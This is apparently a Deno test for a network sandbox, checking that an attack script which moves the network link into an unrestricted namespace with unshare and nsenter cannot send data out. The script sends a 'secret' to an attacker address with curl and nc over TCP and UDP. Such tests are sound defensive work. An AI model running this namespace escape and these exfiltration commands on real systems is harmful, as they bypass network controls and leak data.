/** Attacks that take the network itself apart; each has an internet of its own to break. */

import assert from "node:assert/strict";
import { Internet } from "../../src/demo/internet.ts";
import { run } from "../support/run.ts";

Deno.test({
  name: "attack: the network link is taken into a namespace without rules",
  sanitizeOps: false,
  sanitizeResources: false,
  fn: async () => {
    await using internet = await Internet.create();
    await using other = await Internet.create();
    const script = `
      unshare --net sleep 60 & there=/proc/$!/ns/net
      until [ ! $there -ef /proc/self/ns/net ]; do :; done
      ip link set uplink netns $!
      nsenter --net=$there sh -c '
        ip link set lo up
        ip link set uplink up
        ip addr add 192.0.2.2/24 dev uplink
        ip route add default via 192.0.2.1
        curl -sS -m 3 -d secret http://203.0.113.66/
        echo secret | nc -N -w 2 203.0.113.66 9000
        echo secret | nc -u -w 1 203.0.113.66 9000
        echo tried
      '`;
    const [file = "", ...args] = other.command(["bash", "-c", script]);
    await new Deno.Command(file, { args, stdout: "null", stderr: "null" }).output();
    assert.ok((await other.packets()).attacker > 0, "without egress the attack is one");
    const result = await run(internet, { policy: "site.test", command: ["bash", "-c", script] });
    assert.match(result.stdout, /tried/, result.stderr);
    await internet.world.settle();
    assert.deepEqual(internet.received, [], result.stdout + result.stderr);
    assert.equal((await internet.packets()).attacker, 0);
  },
});
